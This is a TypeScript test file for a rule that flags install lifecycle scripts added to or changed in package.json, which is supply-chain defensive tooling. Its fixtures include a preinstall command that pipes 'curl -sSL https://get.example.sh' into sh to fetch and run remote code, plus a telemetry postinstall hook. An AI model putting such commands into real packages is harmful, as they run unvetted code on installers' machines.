import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { packageInstallScript } from '../../rules/package-install-script.js';
import { findingsForChange, testChangeRule } from '../helpers/change-tester.js';

const pkg = (scripts: Record<string, string>): string =>
  JSON.stringify({ name: 'fast-hash', version: '4.0.1', main: 'index.js', gypfile: true, scripts }, null, 2) + '\n';

const base = { build: 'node-gyp rebuild', test: 'node --test' };

testChangeRule(packageInstallScript, {
  valid: [
    { name: 'other scripts changed', path: 'package.json', before: pkg(base), after: pkg({ ...base, test: 'node --test --test-reporter=spec', prepare: 'husky' }) },
    { name: 'install script unchanged, reformatted', path: 'package.json', before: pkg({ ...base, install: 'node-gyp-build' }), after: JSON.stringify(JSON.parse(pkg({ ...base, install: '  node-gyp-build ' }))) },
    { name: 'install script removed', path: 'package.json', before: pkg({ ...base, postinstall: 'node scripts/postinstall.js' }), after: pkg(base) },
    { name: 'empty install script', path: 'package.json', before: pkg(base), after: pkg({ ...base, postinstall: '' }) },
    { name: 'a script named like one, not a lifecycle script', path: 'package.json', before: pkg(base), after: pkg({ ...base, 'postinstall:dev': 'patch-package', reinstall: 'rm -rf node_modules && npm i' }) },
    { name: 'file deleted', path: 'package.json', before: pkg({ postinstall: 'node x.js' }), after: null },
    { name: 'does not parse: package-files reports it', path: 'package.json', before: pkg(base), after: '{ "scripts": { "postinstall": "curl x | sh" ' },
    { name: 'inside node_modules', path: 'node_modules/esbuild/package.json', before: null, after: pkg({ postinstall: 'node install.js' }) },
  ],
  invalid: [
    {
      name: 'postinstall added',
      path: 'package.json', before: pkg(base), after: pkg({ ...base, postinstall: 'node ./scripts/setup.js' }),
      reports: [{ messageId: 'package-install-script-added', severity: 'error', line: 9, says: ['install script "postinstall" added: node ./scripts/setup.js'] }],
    },
    {
      name: 'preinstall command changed',
      path: 'package.json', before: pkg({ ...base, preinstall: 'npx only-allow pnpm' }), after: pkg({ ...base, preinstall: 'curl -sSL https://get.example.sh | sh' }),
      reports: [{ messageId: 'package-install-script-added', severity: 'error', says: ['"preinstall"', 'curl -sSL'] }],
    },
    {
      name: 'install and postinstall in a workspace package',
      path: 'packages/native/package.json', before: pkg(base), after: pkg({ ...base, install: 'node-gyp-build', postinstall: 'node dist/telemetry.js' }),
      reports: [
        { messageId: 'package-install-script-added', line: 9, says: ['"install"'] },
        { messageId: 'package-install-script-added', line: 10, says: ['"postinstall"'] },
      ],
    },
    {
      name: 'new package.json with a postinstall',
      path: 'tools/helper/package.json', before: null, after: pkg({ postinstall: 'node index.js' }),
      reports: [{ messageId: 'package-install-script-added', severity: 'error' }],
    },
  ],
});

test('package-install-script: adversarial input stays fast', () => {
  const inputs = [pkg({ postinstall: ' '.repeat(500_000) + 'x' }), pkg({ postinstall: 'a'.repeat(500_000) })];
  for (const text of inputs) {
    const started = performance.now();
    const findings = findingsForChange(packageInstallScript, { name: 'adversarial', path: 'package.json', before: pkg(base), after: text });
    assert.ok(performance.now() - started < 2000);
    assert.ok(findings.every((f) => f.match.length < 400), 'the report carries a shortened command');
  }
});

test.run();
